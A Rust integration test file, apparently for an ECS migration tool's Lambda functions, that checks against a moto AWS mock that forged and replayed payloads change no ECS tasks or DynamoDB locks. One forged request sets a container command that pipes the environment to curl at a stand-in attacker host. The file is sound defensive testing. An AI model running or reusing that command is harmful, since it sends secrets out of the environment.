//! Issue 18's attacks through the real bootstrap against moto: a victim execution runs its own
//! steps to a RUNNING task; then each forged or replayed payload goes straight to a function,
//! and the test asserts what ECS and DynamoDB hold afterwards.

use aws_sdk_ecs::types::DesiredStatus;
use serde_json::{json, Value};

use crate::lambda_wire::{call, error_of, Deployment};
use crate::moto;
use crate::runtime_api::Answer;
use ecs_migrate::ports::lock::{DynamoDbLockTable, LockItem, LockTable};

/// The victim: a RUNNING execution holding the lock, its task started.
struct Victim {
    deployment: Deployment,
    table: DynamoDbLockTable,
    request: Value,
    lock: Value,
    task: Value,
}

fn response(answer: Answer) -> Value {
    match answer {
        Answer::Response(value) => value,
        other => panic!("expected a response, got {other:?}"),
    }
}

impl Victim {
    async fn start() -> Self {
        let mut deployment = Deployment::new().await;
        let server = moto::shared();
        let table_name = server.create_lock_table(&moto::unique("trust-lock")).await;
        deployment
            .env
            .push(("LOCK_TABLE".into(), table_name.clone()));
        let table = DynamoDbLockTable::new(server.dynamodb().await, &table_name);
        let event = json!({"taskdef_arn": deployment.family});
        let request = deployment.validate(&moto::unique("victim"), event).await;
        let lock = response(
            deployment
                .invoke(
                    "acquire-lock",
                    call(json!({"request": request.clone()}), &request),
                )
                .await,
        );
        assert_eq!(lock["outcome"], "ACQUIRED", "{lock}");
        let task = response(
            deployment
                .invoke(
                    "run-task",
                    call(
                        json!({"request": request.clone(), "lock": lock.clone()}),
                        &request,
                    ),
                )
                .await,
        );
        assert_eq!(task["outcome"], "STARTED", "{task}");
        Self {
            deployment,
            table,
            request,
            lock,
            task,
        }
    }

    async fn item(&self) -> Option<LockItem> {
        self.table.get(&self.deployment.family).await.unwrap()
    }

    /// The tasks ECS holds in the cluster (moto lists every task it started).
    async fn tasks(&self) -> Vec<String> {
        // Both desiredStatus filters: a task whose container exited (or that is being stopped)
        // is listed only with STOPPED, as on ECS.
        let ecs = moto::shared().ecs().await;
        let mut arns = Vec::new();
        for desired in [DesiredStatus::Running, DesiredStatus::Stopped] {
            let out = ecs
                .list_tasks()
                .cluster(&self.deployment.cluster)
                .desired_status(desired)
                .send()
                .await
                .expect("ecs:ListTasks");
            arns.extend(out.task_arns().iter().cloned());
        }
        arns
    }
}

#[tokio::test]
async fn forged_and_replayed_payloads_change_nothing_in_ecs_or_dynamodb() {
    let victim = Victim::start().await;
    let deployment = &victim.deployment;
    let before = victim.item().await.expect("the victim's lock");
    let tasks = victim.tasks().await;
    assert_eq!(tasks.len(), 1);

    // run-task with a forged command, container, cluster and a fresh token, as another
    // execution (a legitimate one: the attacker may StartExecution) that holds no lock.
    let attacker = deployment
        .execution(
            &moto::unique("attacker"),
            &json!({"taskdef_arn": deployment.family}),
        )
        .await;
    let mut forged = victim.request.clone();
    forged["command"] = json!(["sh", "-c", "env | curl -d @- https://attacker.example"]);
    forged["client_token"] = json!("fresh-token");
    let (error_type, message) = error_of(
        deployment
            .invoke(
                "run-task",
                json!({"state": {"request": forged.clone()}, "execution_id": attacker["id"]}),
            )
            .await,
    );
    assert_eq!(error_type, "Migration.LockLost", "{message}");

    // The victim's own state replayed with a fresh token: the same task comes back.
    let replay = response(
        deployment
            .invoke(
                "run-task",
                call(
                    json!({"request": forged, "lock": victim.lock.clone()}),
                    &victim.request,
                ),
            )
            .await,
    );
    assert_eq!(replay["task_arn"], victim.task["task_arn"], "{replay}");

    // release-lock naming the victim's lock and no task, from the attacker's execution. (With
    // the victim's own ARN it waits for the task the table records to stop: moto stops tasks
    // by itself as they are described, so that case is the unit layer's.)
    let answer = response(
        deployment
            .invoke(
                "release-lock",
                json!({"state": {"request": victim.request.clone(), "lock": victim.lock.clone()},
                       "execution_id": attacker["id"]}),
            )
            .await,
    );
    assert_eq!(answer["released"], false, "{answer}");

    // A forged status change: the victim is ABORTED, says the event.
    let forged_event = json!({"source": "aws.states", "detail-type": "Step Functions Execution Status Change",
        "detail": {"executionArn": victim.request["execution_id"], "status": "ABORTED"}});
    let (error_type, message) = error_of(deployment.invoke("stop-task", forged_event).await);
    assert_eq!(error_type, "Migration.NotAllowed", "{message}");

    // A forged stop-task state naming the victim, which is polling its task: its history, not
    // the payload, says where it is, and it is not in StopTask.
    let victim_id = victim.request["execution_id"].as_str().unwrap();
    moto::shared().enter_state(victim_id, "PollStatus");
    let forged_stop = json!({"request": victim.request.clone(), "task": victim.task.clone(),
                             "error": {"Error": "Migration.Timeout", "Cause": "forged"}});
    let (error_type, message) = error_of(
        deployment
            .invoke("stop-task", call(forged_stop, &victim.request))
            .await,
    );
    assert_eq!(error_type, "Migration.NotAllowed", "{message}");
    assert!(message.contains("state PollStatus"), "{message}");

    // ECS still holds exactly the victim's task, not stopped; the lock is still the victim's.
    assert_eq!(victim.tasks().await, tasks);
    let ecs = moto::shared().ecs().await;
    let described = ecs
        .describe_tasks()
        .cluster(&deployment.cluster)
        .tasks(victim.task["task_arn"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    // Nobody called StopTask on it (its container's own exit sets desiredStatus STOPPED too,
    // as on ECS, so the reason StopTask leaves is what tells).
    let reason = described.tasks()[0].stopped_reason().unwrap_or_default();
    assert!(!reason.contains("ecs-migrate"), "{reason}");
    let after = victim.item().await.expect("still held");
    assert_eq!(after.holder, before.holder);
    assert_eq!(after.task_arn, before.task_arn);
}

#[tokio::test]
async fn a_finished_executions_lease_is_not_renewed() {
    let victim = Victim::start().await;
    let deployment = &victim.deployment;
    let before = victim.item().await.expect("the victim's lock");
    moto::shared()
        .sfn()
        .await
        .stop_execution()
        .execution_arn(victim.request["execution_id"].as_str().unwrap())
        .send()
        .await
        .expect("states:StopExecution");
    let (error_type, message) = error_of(
        deployment
            .invoke(
                "poll-status",
                call(
                    json!({"request": victim.request.clone(), "task": victim.task.clone(), "lock": victim.lock.clone()}),
                    &victim.request,
                ),
            )
            .await,
    );
    assert_eq!(error_type, "Migration.NotAllowed", "{message}");
    assert_eq!(victim.item().await.unwrap().lease_until, before.lease_until);
}

/// An "ECS Hook State Change" event for a pause hook of service `app` in the victim's cluster,
/// in moto's account and region (fields as the Developer Guide's "Pause hooks" page lists).
fn hook_event(cluster: &str, hook_id: &str) -> Value {
    let arn = |rest: &str| format!("arn:aws:ecs:{}:{}:{rest}", moto::REGION, moto::ACCOUNT);
    let cluster_name = cluster.rsplit('/').next().unwrap_or(cluster);
    json!({
        "version": "0", "id": moto::unique("hook-event"), "detail-type": "ECS Hook State Change",
        "source": "aws.ecs", "account": moto::ACCOUNT, "time": "2026-11-25T12:00:00Z",
        "region": moto::REGION, "resources": [arn(&format!("service/{cluster_name}/app"))],
        "detail": {
            "eventName": "HOOK_AWAITING_ACTION", "hookType": "PAUSE", "hookId": hook_id,
            "lifecycleStage": "PRE_SCALE_UP", "clusterArn": arn(&format!("cluster/{cluster_name}")),
            "serviceArn": arn(&format!("service/{cluster_name}/app")),
            "serviceDeploymentArn": arn(&format!("service-deployment/{cluster_name}/app/d1")),
            "expiresAt": "2026-11-26T12:00:00Z"
        }
    })
}

/// report-deployment's CONTINUE call for `hook` of `event`, as execution `execution_id`, with
/// a result naming `task_arn`.
fn continue_call(event: &Value, hook_id: &str, execution_id: &Value, task_arn: &Value) -> Value {
    let detail = &event["detail"];
    json!({
        "action": "CONTINUE", "execution_id": execution_id,
        "result": {"task_arn": task_arn, "container": "fastapi", "exit_code": 0},
        "deployment": {"hook_type": "PAUSE", "hook_id": hook_id,
                       "service_deployment_arn": detail["serviceDeploymentArn"],
                       "service_arn": detail["serviceArn"],
                       "target_revision_arn": "unused"}
    })
}

/// "report-deployment answers whatever action it is given": a forged CONTINUE, one sent as
/// another execution, and one for another hook are each refused before any deployment call
/// (moto serves no ECS deployment API, so a call that reached one would fail otherwise), and
/// ECS still holds the victim's task, running.
#[tokio::test]
async fn report_deployment_answers_no_forged_continue() {
    let mut victim = Victim::start().await;
    victim
        .deployment
        .env
        .push(("DEPLOYMENT_SERVICES".into(), "[\"app\"]".into()));
    let deployment = &victim.deployment;
    let hook_id = "ecs-pause-victim";
    let event = hook_event(&deployment.cluster, hook_id);
    // The hook's own execution, started as EventBridge would (RUNNING: it never ran a task).
    let hook_execution = deployment.execution(&moto::unique("hook"), &event).await;
    let plain = victim.request["execution_id"].clone();
    let task = victim.task["task_arn"].clone();
    let cases = [
        // A plain execution (the attacker's StartExecution) answering the victim's hook.
        (
            continue_call(&event, hook_id, &plain, &task),
            "Migration.NotAllowed",
        ),
        // The hook's execution, with another execution's task (exit 0 claimed, still RUNNING).
        (
            continue_call(&event, hook_id, &hook_execution["id"], &task),
            "Migration.TaskStopped",
        ),
        // The hook's execution answering another hook of the deployment.
        (
            continue_call(&event, "ecs-pause-other", &hook_execution["id"], &task),
            "Migration.NotAllowed",
        ),
        // No execution at all.
        (
            continue_call(&event, hook_id, &Value::Null, &task),
            "Migration.NotAllowed",
        ),
    ];
    for (payload, expected) in cases {
        let (error_type, message) = error_of(deployment.invoke("report-deployment", payload).await);
        assert_eq!(error_type, expected, "{message}");
    }
    let ecs = moto::shared().ecs().await;
    let described = ecs
        .describe_tasks()
        .cluster(&deployment.cluster)
        .tasks(task.as_str().unwrap())
        .send()
        .await
        .unwrap();
    // moto moves a task on by one status per DescribeTasks, so it may have ended by itself by
    // now; what the forged calls must not have done is stop it (StopTask's UserInitiated).
    let victim_task = &described.tasks()[0];
    assert_ne!(
        victim_task.stop_code(),
        Some(&aws_sdk_ecs::types::TaskStopCode::UserInitiated),
        "{victim_task:?}"
    );
    assert_eq!(victim.tasks().await.len(), 1);
}
